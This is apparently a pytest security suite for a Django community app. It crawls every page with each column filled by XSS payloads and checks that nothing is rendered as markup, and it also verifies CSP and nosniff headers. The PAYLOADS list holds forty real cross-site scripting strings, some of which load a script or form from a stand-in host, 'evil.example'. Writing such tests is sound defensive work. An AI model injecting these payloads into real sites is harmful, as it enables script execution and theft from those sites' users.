"""What people call themselves is shown as they wrote it, and never becomes part of a page."""

from collections import Counter
from datetime import UTC, datetime
from functools import cache
from urllib.parse import urlsplit
from zlib import crc32

import pytest
import time_machine
from django.conf import settings
from django.db import connection, transaction
from django.test import Client

from community.models import Grant, Guild
from tests.factories import GrantFactory, StaffFactory
from tests.security.asks import Asks
from tests.security.crawler import TOKEN, quick
from tests.security.forms import Page
from tests.security.memory import Memory, remembered
from tests.security.routes import routes
from tests.security.world import OURS, Furniture, World

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)//",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>x</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//e.ex>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<math><mtext><script>alert(1)",
    "<template><script>alert(1)",
    "<!--<script>-->alert(1)",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)",
    "</option></select><script>x",
    "</bdi></td></tr></table><b>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "javascript:alert(1)",
    "{{ 7*7 }}{% load static %}",
    "&lt;script&gt;&#60;b&#62;<b>",
    "\u202e<b>\u2066\u200b<i>=1+1",
]
WALKS = 10  # in each of which every column holds another payload
QUOTES = ('"', "'", "`")
ECHOED = ("q", "username", "next", "o", "reason", "role")
SCHEMES = {"", "http", "https"}
ADDRESSES = ("href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href")


def walk(text_of, only=None):
    """Fetch every page of a world whose every column holds its text; return what came."""
    furniture = Furniture(OURS, OURS, texts=lambda *told: fitted(text_of, *told), first=100)
    told = {}
    # The database's own clock goes on: what is done lately must be so in each walk.
    with time_machine.travel(datetime.now(UTC), tick=False), transaction.atomic():
        rows = furniture.all()
        keeper = StaffFactory(username="keeper-of-the-walk", pk=1, keeper=True)
        everything = Grant.Capability.values
        GrantFactory(guild=rows[Guild], staff=keeper, capabilities=everything)
        client = Client(raise_request_exception=False)
        client.force_login(keeper)
        memory, place = Memory(), transaction.savepoint()
        with quick(lambda execute, *args: execute(*args), []), remembered(memory):
            for method, address in addresses(World(rows, rows)):
                if only is None or (method, address) in only:
                    echoed = {} if method == "page" else {name: text_of(name) for name in ECHOED}
                    send = client.post if method == "post" else client.get
                    told[method, address] = send(address, echoed)
                    undo(memory, place)
        transaction.set_rollback(True)
    return told


def undo(memory, place):
    """Let the next page show the same world."""
    if memory.has_changed or transaction.get_rollback():
        transaction.set_rollback(False)
        transaction.savepoint_rollback(place)
        memory.undo()
    connection.run_on_commit.clear()


def addresses(world):
    """Yield each page as it is meant, and asked and told what it may repeat in an answer."""
    # Signing out would end the walk.
    asks = Asks(world, [each for each in routes() if each.name != "logout/"])
    for address in dict.fromkeys(ask.address for ask in asks.pages() if ask.method == "GET"):
        yield "page", address
    for route in asks.routes:
        if not route.holes:
            yield from (("get", route.address), ("post", route.address))


def payloads_of(number):
    """Return what says which payload a column holds in a walk: ten of the forty, of each family."""
    return lambda name: PAYLOADS[(crc32(name.encode()) + number * 4) % len(PAYLOADS)]


def fitted(text_of, mark, number, column):
    """Return as much of the text as a column holds; keys stay plain, so addresses are alike."""
    if column.primary_key:
        return f"key{number}"
    text = text_of(f"{column.model.__name__}.{column.name}")
    own = f"{text}{number}" if column.unique else text
    return own[: column.max_length or 200]


MOMENT = ("time", "class", "datetime", "title")


def shape(response):
    """Count the tags of a page with the names of their attributes."""
    page = Page("/", response.content.decode())
    found = Counter((tag, *sorted(attributes)) for tag, attributes in page.tags)
    del found[MOMENT]  # the page of tables tells when each was cleaned last, which goes on
    return found, page


def is_html(response):
    return not response.streaming and response.get("Content-Type", "").startswith("text/html")


def dangers(page):
    """Name what a page may not hold at all: code, styles and addresses of another kind."""
    for number, (tag, told) in enumerate(page.tags):
        if tag in {"style", "base", "iframe", "object", "embed"}:
            yield tag
        if tag == "script" and "src" not in told and told.get("type") != "application/json":
            yield f"script {number}"
        yield from (f"{tag} {name}" for name in told if name.startswith("on") or name == "style")
        for name in ADDRESSES:
            if urlsplit(told.get(name, "").strip()).scheme not in SCHEMES:
                yield f"{tag} {name}={told[name]}"


@pytest.fixture
def harmless(db):
    return harmless_walk()


@cache
def harmless_walk():
    # In every column another text, as the payloads are: a page may leave out what it said already.
    return walk(lambda name: f"{crc32(name.encode()):010d} is a harmless text")


def different_pages(told):
    """Return the pages that came; a post that is answered with the page of a get is left out."""
    by_text = {
        TOKEN.sub("", each.content.decode()): (name, each)
        for name, each in reversed(told.items())
        if each.status_code == 200 and is_html(each)
    }
    return dict(by_text.values())


@pytest.mark.parametrize("first", range(2))
def test_forty_payloads_add_nothing_to_any_page(harmless, first):
    pages = {name: shape(each)[0] for name, each in different_pages(harmless).items()}
    found = []

    for number in range(first, WALKS, 2):
        for name, response in walk(payloads_of(number), only=pages).items():
            now, page = shape(response)
            if (added := now - pages[name]) or list(dangers(page)):
                found.append((number, name, dict(added), list(dangers(page))))

    assert len(pages) >= 40
    assert not found, "\n".join(map(str, found[:20]))


def test_every_column_holds_payloads_of_each_family():
    walks = [payloads_of(number) for number in range(WALKS)]

    for name in ("Guild.name", "Case.reason", "q"):
        held = {text_of(name) for text_of in walks}
        assert len(held) == WALKS
        assert any(each.startswith(QUOTES) for each in held)
        assert any("<" in each for each in held)
    assert len(PAYLOADS) == 40


def test_every_answer_carries_the_policy_and_is_not_guessed_at(harmless):
    for name, response in harmless.items():
        assert response["Content-Security-Policy"] == settings.CONTENT_SECURITY_POLICY, name
        assert response["X-Content-Type-Options"] == "nosniff", name


def test_a_page_that_shows_a_name_as_it_stands_would_be_found():
    page = Page("/", "<p>" + "".join(PAYLOADS[:1]) + PAYLOADS[4] + PAYLOADS[13] + "</p>")

    assert list(dangers(page)) == ["script 1", "img onerror", "a href=javascript:alert(1)"]
